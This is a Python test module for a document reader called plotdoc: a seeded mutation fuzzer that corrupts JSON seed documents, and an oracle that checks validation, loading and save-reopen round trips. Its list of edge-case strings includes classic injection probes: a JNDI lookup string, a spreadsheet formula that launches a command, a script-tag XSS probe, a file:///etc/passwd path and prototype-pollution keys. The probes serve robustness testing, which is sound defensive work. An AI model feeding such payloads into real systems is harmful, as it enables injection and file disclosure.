"""A fast, dependency-free mutation fuzzer for the reader, and the oracle every input must pass.

:func:`mutate` turns a valid seed document into a hostile one, by editing its JSON tree (drop a
key, change a type, insert a forbidden key, push a number or a string to a limit, graft a
subtree elsewhere) and then its bytes (truncate, flip, splice, duplicate a key, re-encode).
:func:`check` feeds the bytes to :func:`plotdoc.api.validate` and :func:`plotdoc.api.loads` and
fails on anything but a report or a :class:`PlotdocError`; a document that opens must also save
and reopen to the same bytes. ``fuzz/run.py`` loops over these for a given time; a pytest test
runs a bounded number of iterations in CI.
"""

from __future__ import annotations

import codecs
import random
import re
import time
from collections.abc import Callable, Iterator
from dataclasses import dataclass, field

import orjson

from plotdoc.api import loads, validate
from plotdoc.contract.limits import FORBIDDEN_KEYS
from plotdoc.contract.nodes import Enum, Node, Obj
from plotdoc.problems import CATALOGUE, PlotdocError
from plotdoc.writer import dumps

from .documents import DEFINITIONS, ROOT, Json, encode, seeds

#: Mutants that grow past this are dropped, to keep executions fast and memory flat.
MAX_MUTANT_BYTES = 200_000

#: A fixed timestamp so a saved document's bytes do not depend on the clock.
NOW = "2024-05-01T12:00:00Z"


class OracleFailure(AssertionError):
    """The reader or writer broke a promise on one input."""


def check(data: bytes) -> str:
    """Run one input through validate, loads and (when it opens) a save and reopen.

    Returns ``"opened"`` or ``"refused"``; raises :class:`OracleFailure` (or lets any unexpected
    exception through) when a promise is broken.
    """
    report = validate(data)
    for problem in report.problems:
        if problem.code not in CATALOGUE:  # pragma: no cover - Problem refuses it already
            raise OracleFailure(f"unknown code {problem.code}")
        if not isinstance(problem.path, tuple):  # pragma: no cover
            raise OracleFailure(f"path of {problem.code} is not a tuple")
    try:
        project = loads(data)
    except PlotdocError as exc:
        if not exc.errors:
            raise OracleFailure("PlotdocError without an error") from exc
        if report.ok:
            raise OracleFailure(
                f"validate found no error but loads refused: {exc.errors[0]}"
            ) from exc
        return "refused"
    if not report.ok:
        raise OracleFailure(f"validate refused ({report.errors[0]}) but loads opened")
    saved = dumps(project, now=NOW)
    try:
        again = loads(saved)
    except PlotdocError as exc:
        raise OracleFailure(f"a saved document does not reopen: {exc.errors[0]}") from exc
    if dumps(again, now=NOW) != saved:
        raise OracleFailure("save, reopen and save again gave other bytes")
    return "opened"


# -- values that sit on or past a limit ---------------------------------------------------

NUMBERS: tuple[Json, ...] = (
    0,
    -1,
    1,
    2,
    63,
    64,
    65,
    128,
    129,
    200,
    201,
    -0.0,
    0.5,
    1.0000000000000002,
    1e308,
    -1e308,
    5e-324,
    2**53 + 1,
    2**63 - 1,
    2**63,
    2**64 - 1,
    -(2**63),
)
RAW_NUMBERS: tuple[bytes, ...] = (
    b"1e400",
    b"-1e400",
    b"18446744073709551616",
    b"-9223372036854775809",
    b"1" + b"0" * 400,
    b"0." + b"0" * 400 + b"1",
    b"1E-999",
    b"-0",
    b"NaN",
    b"Infinity",
    b"01",
    b"1.",
    b".5",
    b"+1",
)
LENGTHS = (0, 1, 127, 128, 129, 199, 200, 201, 299, 300, 301, 499, 500, 501, 999, 1000, 1001, 2001)
STRINGS: tuple[str, ...] = (
    "",
    " ",
    "\x00",
    "\u2028",
    "\ufeff",
    "é",
    "e\u0301",
    "😀",
    "NaN",
    "-Infinity",
    "1e999",
    " 12.5 ",
    "0x10",
    "__proto__",
    "http://192.0.2.1/x.json",
    "file:///etc/passwd",
    "${jndi:ldap://192.0.2.1/a}",
    "=cmd|' /C calc'!A0",
    "<script>alert(1)</script>",
    "2024-02-30T00:00:00Z",
    "2024-02-29T23:59:60+24:00",
    "#GGG",
    "theme",
    "auto",
    "automatic",
    "00",
    "01",
    "²",
    "9" * 30,
    "9" * 5_000,
    "1" * 999 + "x",
    " " * 500 + "1e5" + " " * 499,
)
TOKENS: tuple[bytes, ...] = (
    b"{",
    b"}",
    b"[",
    b"]",
    b'"',
    b":",
    b",",
    b"\\",
    b"\\u0000",
    b"\\ud800",
    b"\\udc00",
    b"\\u003a",
    b"\x00",
    b"\xff",
    b"\xc0\xaf",
    b"\xed\xa0\x80",
    b"\xef\xbb\xbf",
    b"\t",
    b"\r\n",
    b"null",
    b"true",
    b"[" * 64,
    b'"__proto__":1,',
    b'"constructor":{},',
    b"/*c*/",
    *RAW_NUMBERS,
)


def _enum_values() -> tuple[str, ...]:
    found: set[str] = set()
    for node in _all_nodes():
        if isinstance(node, Enum):
            found.update(node.values)
    return tuple(sorted(found))


def _all_keys() -> tuple[str, ...]:
    found: set[str] = set()
    for node in _all_nodes():
        if isinstance(node, Obj):
            found.update(node.props)
    return tuple(sorted(found))


def _all_nodes() -> Iterator[Node]:
    seen: set[int] = set()
    stack: list[Node] = [ROOT, *DEFINITIONS.values()]
    while stack:
        node = stack.pop()
        if id(node) in seen:
            continue
        seen.add(id(node))
        yield node
        for value in vars(node).values():
            if isinstance(value, Node):
                stack.append(value)
            elif isinstance(value, tuple):
                stack.extend(v for v in value if isinstance(v, Node))
            elif isinstance(value, dict):
                stack.extend(v for v in value.values() if isinstance(v, Node))


ENUM_VALUES = _enum_values()
KEYS = _all_keys()


# -- the mutator --------------------------------------------------------------------------


def _containers(tree: Json) -> list[Json]:
    out: list[Json] = []
    stack = [tree]
    while stack:
        node = stack.pop()
        if isinstance(node, dict):
            out.append(node)
            stack.extend(v for v in node.values() if isinstance(v, (dict, list)))
        elif isinstance(node, list):
            out.append(node)
            stack.extend(v for v in node if isinstance(v, (dict, list)))
    return out


def _random_value(rng: random.Random, tree: Json) -> Json:
    kind = rng.randrange(10)
    if kind == 0:
        return rng.choice(NUMBERS)
    if kind == 1:
        return rng.choice(STRINGS)
    if kind == 2:
        return rng.choice("aé😀\x01") * rng.choice(LENGTHS)
    if kind == 3:
        return rng.choice(ENUM_VALUES)
    if kind == 4:
        return rng.choice((None, True, False, [], {}, [[]], [None], {"": None}))
    if kind == 5 and rng.random() < 0.2:
        # nesting deeper than orjson writes: spliced in as text after the tree is dumped
        return f"{DEEP_MARK}{rng.choice((250, 251, 252, 253, 254, 300, 1_023, 1_024, 1_025))}"
    if kind == 5:
        value: Json = rng.choice(NUMBERS)
        for _ in range(rng.randrange(1, 40)):
            value = [value] if rng.random() < 0.5 else {rng.choice(KEYS): value}
        return value
    if kind == 6:
        return [rng.choice(NUMBERS)] * rng.choice((1, 64, 65, 201))
    # graft a copy of another part of the document
    source = rng.choice(_containers(tree))
    return orjson.loads(orjson.dumps(source))


DEEP_MARK = "\u0000deep:"
_DEEP = re.compile(rb'"\\u0000deep:([0-9]+)"')


def _splice_deep(data: bytes) -> bytes:
    return _DEEP.sub(lambda m: b"[" * int(m.group(1)) + b"0" + b"]" * int(m.group(1)), data)


def _tree_mutation(rng: random.Random, tree: Json) -> None:
    target = rng.choice(_containers(tree))
    op = rng.randrange(7)
    if isinstance(target, dict):
        keys = list(target)
        if op == 0 and keys:
            del target[rng.choice(keys)]
        elif op == 1:
            target[rng.choice(tuple(FORBIDDEN_KEYS))] = _random_value(rng, tree)
        elif op == 2:
            target[rng.choice(KEYS)] = _random_value(rng, tree)
        elif op == 3:
            target[rng.choice(STRINGS)] = _random_value(rng, tree)
        elif keys:
            target[rng.choice(keys)] = _random_value(rng, tree)
    elif isinstance(target, list):
        if op == 0 and target:
            del target[rng.randrange(len(target)) :]
        elif op == 1 and target:
            target.extend([rng.choice(target)] * rng.choice((1, 2, 64, 200)))
        elif target:
            target[rng.randrange(len(target))] = _random_value(rng, tree)
        else:
            target.append(_random_value(rng, tree))


def _byte_mutation(rng: random.Random, data: bytes) -> bytes:
    n = len(data)
    op = rng.randrange(9)
    at = rng.randrange(n + 1)
    if op == 0:
        return data[:at]
    if op == 1 and n:
        i = rng.randrange(n)
        return data[:i] + bytes([data[i] ^ (1 << rng.randrange(8))]) + data[i + 1 :]
    if op == 2:
        return data[:at] + rng.choice(TOKENS) + data[at:]
    if op == 3 and n:
        end = min(n, at + rng.randrange(1, 64))
        return data[:at] + data[end:]
    if op == 4 and n:
        # splice a copy of a slice elsewhere (often a duplicate key)
        i = rng.randrange(n)
        piece = data[i : i + rng.randrange(1, 128)]
        return data[:at] + piece + data[at:]
    if op == 5:
        # duplicate one "key": value pair inside its object
        quote = data.find(b'":', at)
        start = data.rfind(b',"', 0, quote) if quote > 0 else -1
        if start > 0:
            end = data.find(b",", quote)
            if end > 0:
                return data[:end] + data[start:end] + data[end:]
        return data
    if op == 6:
        return rng.choice((codecs.BOM_UTF8, codecs.BOM_UTF8 * 2, b" " * 100, b"\n")) + data
    if op == 7:
        text = data.decode("utf-8", "replace")
        return text.encode(rng.choice(("utf-16", "utf-16-le", "utf-32", "latin-1")), "replace")
    if op == 8:
        # replace a number with a raw spelling orjson may refuse
        digit = next((i for i in range(at, n) if data[i : i + 1].isdigit()), -1)
        if digit >= 0:
            end = digit
            while end < n and data[end : end + 1] in b"0123456789.eE+-":
                end += 1
            return data[:digit] + rng.choice(RAW_NUMBERS) + data[end:]
    return data


@dataclass
class Mutator:
    """Mutated inputs from the seeds, reproducible from ``seed``."""

    seed: int = 0
    rng: random.Random = field(init=False)
    seeds: list[bytes] = field(init=False)

    def __post_init__(self) -> None:
        self.rng = random.Random(self.seed)
        self.seeds = [encode(doc) for doc in seeds()]

    def next(self) -> bytes:
        rng = self.rng
        base = rng.choice(self.seeds)
        data = base
        if rng.random() < 0.7:
            tree = orjson.loads(base)
            for _ in range(rng.randrange(1, 4)):
                _tree_mutation(rng, tree)
            data = _splice_deep(orjson.dumps(tree))
            if len(data) > MAX_MUTANT_BYTES:
                data = base  # big documents are the limit tests' business
        if rng.random() < 0.5:
            for _ in range(rng.randrange(1, 4)):
                data = _byte_mutation(rng, data)
        return data


@dataclass
class Stats:
    executions: int = 0
    opened: int = 0
    refused: int = 0
    seconds: float = 0.0
    slowest: float = 0.0
    slowest_input: bytes = b""
    failures: list[tuple[bytes, str]] = field(default_factory=list)


def run(
    *,
    seed: int = 0,
    iterations: int | None = None,
    seconds: float | None = None,
    on_failure: Callable[[bytes, BaseException], None] | None = None,
) -> Stats:
    """Mutate and check until ``iterations`` or ``seconds`` run out; collect failures."""
    mutator = Mutator(seed)
    stats = Stats()
    for data in mutator.seeds:  # warm up (lazy imports) so the slowest time means something
        try:
            check(data)
        except Exception as exc:
            stats.failures.append((data, f"{type(exc).__name__}: {exc}"))
    start = time.perf_counter()
    while True:
        if iterations is not None and stats.executions >= iterations:
            break
        if seconds is not None and time.perf_counter() - start >= seconds:
            break
        data = mutator.next()
        t0 = time.perf_counter()
        try:
            outcome = check(data)
        except Exception as exc:
            stats.failures.append((data, f"{type(exc).__name__}: {exc}"))
            if on_failure is not None:
                on_failure(data, exc)
            outcome = "failed"
        took = time.perf_counter() - t0
        if took > stats.slowest:
            stats.slowest, stats.slowest_input = took, data
        stats.executions += 1
        if outcome == "opened":
            stats.opened += 1
        elif outcome == "refused":
            stats.refused += 1
    stats.seconds = time.perf_counter() - start
    return stats


__all__ = ["Mutator", "OracleFailure", "Stats", "check", "run"]
